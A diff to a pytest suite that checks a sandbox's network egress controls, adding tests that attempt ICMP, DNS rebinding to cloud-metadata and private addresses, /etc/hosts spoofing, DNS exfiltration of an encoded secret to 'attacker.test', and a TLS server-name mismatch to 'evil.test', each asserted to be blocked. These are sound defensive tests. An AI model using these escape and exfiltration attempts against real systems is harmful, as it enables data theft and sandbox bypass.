@@ -16,7 +16,7 @@ import os
 import shutil
 import signal
 import tempfile
-from collections.abc import AsyncIterator, Iterator
+from collections.abc import AsyncIterator, Callable, Iterator
 from pathlib import Path
 from typing import Any
 
@@ -70,6 +70,32 @@ def raw(family, kind, address):
         return errno.errorcode.get(e.errno, type(e).__name__)
     finally:
         s.close()
+def icmp():
+    found = []
+    for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
+        try:
+            s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
+            s.settimeout(5)
+            s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("192.0.2.1", 0))
+            found.append("sent")
+        except OSError as e:
+            found.append(errno.errorcode.get(e.errno, type(e).__name__))
+    return found
+def tls_through(host, port, server_name):
+    import ssl
+    s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
+    s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\n\r\n".encode())
+    head = b""
+    while b"\r\n\r\n" not in head:
+        head += s.recv(1024)
+    context = ssl.create_default_context()
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    try:
+        context.wrap_socket(s, server_hostname=server_name)
+        return [head.split()[1].decode(), "handshake done"]
+    except OSError as e:
+        return [head.split()[1].decode(), type(e).__name__]
 def lookup(name):
     try:
         return socket.getaddrinfo(name, 80)
@@ -101,6 +127,11 @@ async def net_manager() -> AsyncIterator[SandboxManager]:
         "unlisted.test": "127.0.0.1",
         "allowed.test.evil.test": "127.0.0.1",
         "rebind.test": "127.0.0.2",
+        "metadata.test": "169.254.169.254",
+        "mapped.test": "::ffff:169.254.169.254",
+        "private.test": "10.0.0.1",
+        "wild.test": "127.0.0.1",
+        "a.wild.test": "127.0.0.1",
     }
     manager = SandboxManager.from_config(config)
     try:
@@ -113,19 +144,23 @@ async def net_manager() -> AsyncIterator[SandboxManager]:
         shutil.rmtree(state_dir, ignore_errors=True)
 
 
-@pytest_asyncio.fixture(
+@pytest.fixture(
     scope="module",
-    loop_scope="module",
     params=[
         pytest.param("runc", marks=pytest.mark.runc),
         pytest.param("runsc", marks=pytest.mark.runsc),
     ],
 )
-async def box(
-    net_manager: SandboxManager, request: pytest.FixtureRequest
-) -> AsyncIterator[Sandbox]:
+def runtime(request: pytest.FixtureRequest) -> str:
+    """Module-scoped here (one sandbox per runtime); named ``runtime`` so that the security
+    report (tests/conftest.py: checklist_row) records it."""
+    return str(request.param)
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="module")
+async def box(net_manager: SandboxManager, runtime: str) -> AsyncIterator[Sandbox]:
     sandbox = await net_manager.create(
-        OWNER, runtime=request.param, purpose=purpose_label(f"{__name__}[{request.param}]")
+        OWNER, runtime=runtime, purpose=purpose_label(f"{__name__}[{runtime}]")
     )
     output, reply = await execute(sandbox.connection_info, HELPERS)
     assert reply["status"] == "ok", output
@@ -145,8 +180,13 @@ async def set_policy(manager: SandboxManager, box: Sandbox, policy: Any) -> None
     await manager.set_network_policy(OWNER, box.sandbox_id, policy)
 
 
+@pytest.mark.checklist(
+    row=14,
+    attack="network in none mode: HTTP, nc to an IP (TCP), UDP, ICMP, DNS lookup",
+    expected="all fail (only lo exists)",
+)
 async def test_none_http_raw_tcp_udp_dns_all_fail(
-    net_manager: SandboxManager, box: Sandbox, server: RecordingServer
+    net_manager: SandboxManager, box: Sandbox, server: RecordingServer, observe: Callable[..., None]
 ) -> None:
     """Row 14: in none mode curl-like HTTP, TCP to an IP, UDP and DNS all fail; only lo."""
     await set_policy(net_manager, box, "none")
@@ -161,11 +201,24 @@ async def test_none_http_raw_tcp_udp_dns_all_fail(
     assert "gaierror" in await run(box, "lookup('pypi.org')")
     interfaces = await run(box, "[name for _, name in socket.if_nameindex()]")
     assert interfaces == ["lo"]
+    raw_icmp, ping = await run(box, "icmp()")
+    assert raw_icmp in ("EPERM", "EACCES")  # no CAP_NET_RAW
+    assert ping in ("EPERM", "EACCES", *NO_ROUTE)
     assert server.connections == before
+    observe(
+        f"HTTP: {said}; TCP {tcp}, UDP {udp}, raw ICMP {raw_icmp}, ping socket {ping}; DNS: "
+        "no resolver; interfaces: lo",
+        cases=6,
+    )
 
 
+@pytest.mark.checklist(
+    row=15,
+    attack="an empty allowlist",
+    expected="identical to none: every request denied (fail closed)",
+)
 async def test_empty_allowlist_denies_like_none(
-    net_manager: SandboxManager, box: Sandbox, server: RecordingServer
+    net_manager: SandboxManager, box: Sandbox, server: RecordingServer, observe: Callable[..., None]
 ) -> None:
     """Row 15: an empty allowlist fails closed, with the proxy's 403."""
     await set_policy(net_manager, box, {"mode": "allowlist", "allow": []})
@@ -175,10 +228,16 @@ async def test_empty_allowlist_denies_like_none(
         "not in allowlist",
     ]
     assert server.connections == before
+    observe("403 'not in allowlist' from the proxy; the server saw no connection")
 
 
+@pytest.mark.checklist(
+    row=16,
+    attack="allowlist: a non-listed domain, an IP literal, another port, a look-alike domain, the apex of a wildcard",
+    expected="403 from the proxy; the listed name works; the apex is not matched by *.domain",
+)
 async def test_allowlist_listed_name_works_others_get_403(
-    net_manager: SandboxManager, box: Sandbox, server: RecordingServer
+    net_manager: SandboxManager, box: Sandbox, server: RecordingServer, observe: Callable[..., None]
 ) -> None:
     """Row 16: listed name works (HTTP and CONNECT); unlisted, IP literal, another port and a
     look-alike get a 403 from the proxy, which never contacts them."""
@@ -200,22 +259,51 @@ async def test_allowlist_listed_name_works_others_get_403(
         assert await run(box, f"fetch({url!r})") == [403, rule], url
     assert (await run(box, "connect_through('1.1.1.1', 443)"))[0] == -1  # tunnel refused: 403
     assert server.connections == before
+    await set_policy(net_manager, box, "*.wild.test")
+    assert (await run(box, f"fetch('http://a.wild.test:{port}/')"))[0] == 200
+    assert await run(box, f"fetch('http://wild.test:{port}/')") == [403, "not in allowlist"]
+    observe(
+        "listed name 200 over HTTP and CONNECT; unlisted, look-alike, other port, IP literal "
+        "(HTTP and CONNECT) and the wildcard's apex: 403 with the rule, server never contacted",
+        cases=7,
+    )
 
 
+@pytest.mark.checklist(
+    row=18,
+    attack="an allowed name resolving to 127.0.0.2, 169.254.169.254, ::ffff:169.254.169.254, 10.0.0.1 (DNS rebinding)",
+    expected="403 'resolved to a denied address'; the server at that address never contacted",
+)
 async def test_allowed_name_resolving_to_denied_address_is_refused_uncontacted(
-    net_manager: SandboxManager, box: Sandbox, rebind_target: RecordingServer
+    net_manager: SandboxManager,
+    box: Sandbox,
+    rebind_target: RecordingServer,
+    observe: Callable[..., None],
 ) -> None:
     """Row 18 (DNS rebinding): an allowed name resolving to loopback is a 403, and the server
     at that address never sees a connection."""
-    await set_policy(net_manager, box, "rebind.test")
-    status, rule = await run(box, f"fetch('http://rebind.test:{rebind_target.port}/')")
-    assert status == 403
-    assert rule == "resolved to a denied address 127.0.0.2 (loopback)"
+    cases = {
+        "rebind.test": "127.0.0.2 (loopback)",
+        "metadata.test": "169.254.169.254 (cloud metadata service)",
+        "mapped.test": "::ffff:169.254.169.254 (embeds 169.254.169.254: cloud metadata service)",
+        "private.test": "10.0.0.1 (private)",
+    }
+    for name, why in cases.items():
+        await set_policy(net_manager, box, name)
+        status, rule = await run(box, f"fetch('http://{name}:{rebind_target.port}/')")
+        assert status == 403, name
+        assert rule == f"resolved to a denied address {why}"
     assert rebind_target.connections == 0
+    observe("403 'resolved to a denied address' for each; the server on 127.0.0.2 saw none", 4)
 
 
+@pytest.mark.checklist(
+    row=17,
+    attack="a tool that ignores the proxy variables (raw socket to the allowed host's address)",
+    expected="connect fails: no route",
+)
 async def test_raw_socket_ignoring_the_proxy_gets_no_route(
-    net_manager: SandboxManager, box: Sandbox, server: RecordingServer
+    net_manager: SandboxManager, box: Sandbox, server: RecordingServer, observe: Callable[..., None]
 ) -> None:
     """Row 17: with an allowlist in force, a socket that ignores the proxy reaches nothing: the
     allowed server's address is the sandbox's own loopback, anything else has no route."""
@@ -227,10 +315,16 @@ async def test_raw_socket_ignoring_the_proxy_gets_no_route(
     assert away in NO_ROUTE
     assert "gaierror" in await run(box, "lookup('allowed.test')")  # no resolver inside
     assert server.connections == before
+    observe(f"to the allowed server's port: {own} (the sandbox's own lo); elsewhere: {away}", 2)
 
 
+@pytest.mark.checklist(
+    row=19,
+    attack="cloud metadata and private addresses directly, in open mode: 169.254.169.254, fd00:ec2::254, ::ffff:169.254.169.254, 100.100.100.200, 168.63.129.16, 10.0.0.1, 192.168.1.1",
+    expected="blocked in every mode, open included",
+)
 async def test_open_still_refuses_metadata_and_private_addresses(
-    net_manager: SandboxManager, box: Sandbox, server: RecordingServer
+    net_manager: SandboxManager, box: Sandbox, server: RecordingServer, observe: Callable[..., None]
 ) -> None:
     """Row 19: open allows a public name, never metadata, private or link-local addresses."""
     await set_policy(net_manager, box, "open")
@@ -247,6 +341,7 @@ async def test_open_still_refuses_metadata_and_private_addresses(
         status, rule = await run(box, f"fetch('http://{target}/latest/meta-data/')")
         assert status == 403, target
         assert rule.startswith("resolved to a denied address"), (target, rule)
+    observe("a public name (standing in: 127.0.0.1 for tests) 200; all 7 addresses 403", cases=7)
 
 
 async def test_live_policy_change_applies_at_once_and_keeps_kernel_state(
@@ -268,8 +363,13 @@ async def test_live_policy_change_applies_at_once_and_keeps_kernel_state(
     assert policy.as_dict() == {"mode": "allowlist", "allow": ["allowed.test"], "deny": []}
 
 
+@pytest.mark.checklist(
+    row=24,
+    attack="sandbox code changing its own egress policy",
+    expected="impossible: the policy and token live in the host-only state file; no policy API is reachable from the sandbox",
+)
 async def test_the_sandbox_cannot_reach_its_policy(
-    net_manager: SandboxManager, box: Sandbox
+    net_manager: SandboxManager, box: Sandbox, observe: Callable[..., None]
 ) -> None:
     """Row 24: the policy and token live in the host-only state file, not in /run/sandbox."""
     await set_policy(net_manager, box, "allowed.test")
@@ -277,6 +377,7 @@ async def test_the_sandbox_cannot_reach_its_policy(
     assert "state.json" not in seen
     assert "egress.sock" in seen
     assert await run(box, "'allowed.test' in open('/proc/self/environ').read()") is False
+    observe("/run/sandbox holds sockets only, no state.json; the policy is nowhere in the sandbox")
 
 
 async def test_audit_records_every_decision(
@@ -293,6 +394,73 @@ async def test_audit_records_every_decision(
     ]
     assert {e["sandbox"] for e in entries} == {box.sandbox_id}
     assert all(e["port"] == server.port and e["time"] for e in entries)
+
+
+@pytest.mark.checklist(
+    row=20,
+    attack="/etc/hosts spoofing: map an allowed name to an attacker address, then connect",
+    expected="the proxy resolves the name itself; the spoof is ineffective",
+)
+async def test_hosts_file_spoofing_is_ineffective(
+    net_manager: SandboxManager,
+    box: Sandbox,
+    server: RecordingServer,
+    observe: Callable[..., None],
+) -> None:
+    await set_policy(net_manager, box, "allowed.test")
+    spoof = await run(
+        box,
+        "(lambda: [open('/etc/hosts', 'a').write('192.0.2.66 allowed.test'), 'written'][1])()"
+        " if __import__('os').access('/etc/hosts', __import__('os').W_OK) else 'read-only'",
+    )
+    assert spoof == "read-only"
+    assert (await run(box, f"fetch('http://allowed.test:{server.port}/')"))[0] == 200
+    entry = (await net_manager.network_audit(OWNER, box.sandbox_id, limit=1))[0]
+    assert entry["address"] == "127.0.0.1"  # the proxy's own answer, whatever the sandbox says
+    observe("/etc/hosts is read-only; the proxy connected to the address it resolved itself")
+
+
+@pytest.mark.checklist(
+    row=21,
+    attack="DNS exfiltration: look up $(secret).attacker.test from the sandbox",
+    expected="no resolver reachable; the proxy resolves only names the policy allows",
+)
+async def test_dns_exfiltration_has_no_resolver_and_the_proxy_resolves_only_allowed_names(
+    net_manager: SandboxManager, box: Sandbox, observe: Callable[..., None]
+) -> None:
+    await set_policy(net_manager, box, "allowed.test")
+    name = "c2VjcmV0.attacker.test"
+    assert "gaierror" in await run(box, f"lookup({name!r})")
+    assert "gaierror" in await run(box, "lookup('allowed.test')")
+    assert await run(box, f"fetch('http://{name}/')") == [403, "not in allowlist"]
+    entry = (await net_manager.network_audit(OWNER, box.sandbox_id, limit=1))[0]
+    assert (entry["host"], entry["rule"], "address" in entry) == (
+        name.lower(),
+        "not in allowlist",
+        False,
+    )
+    observe("getaddrinfo fails inside; through the proxy the name is refused before any lookup")
+
+
+@pytest.mark.checklist(
+    row=22,
+    attack="SNI different from the CONNECT host (TLS to another name at an allowed address)",
+    expected="closed before any byte of the TLS handshake passes; domain fronting inside TLS is a "
+    "documented limitation",
+)
+async def test_tls_to_another_server_name_through_connect_is_closed(
+    net_manager: SandboxManager,
+    box: Sandbox,
+    server: RecordingServer,
+    observe: Callable[..., None],
+) -> None:
+    await set_policy(net_manager, box, "allowed.test")
+    status, outcome = await run(box, f"tls_through('allowed.test', {server.port}, 'evil.test')")
+    assert status == "200"
+    assert outcome in ("SSLEOFError", "ConnectionResetError", "SSLZeroReturnError")
+    entry = (await net_manager.network_audit(OWNER, box.sandbox_id, limit=1))[0]
+    assert entry["rule"] == "TLS server name evil.test is not the CONNECT host allowed.test"
+    observe(f"the tunnel was closed ({outcome}); the audit names both names")
 
 
 async def test_a_killed_host_proxy_is_told_and_setting_the_policy_again_restarts_it(
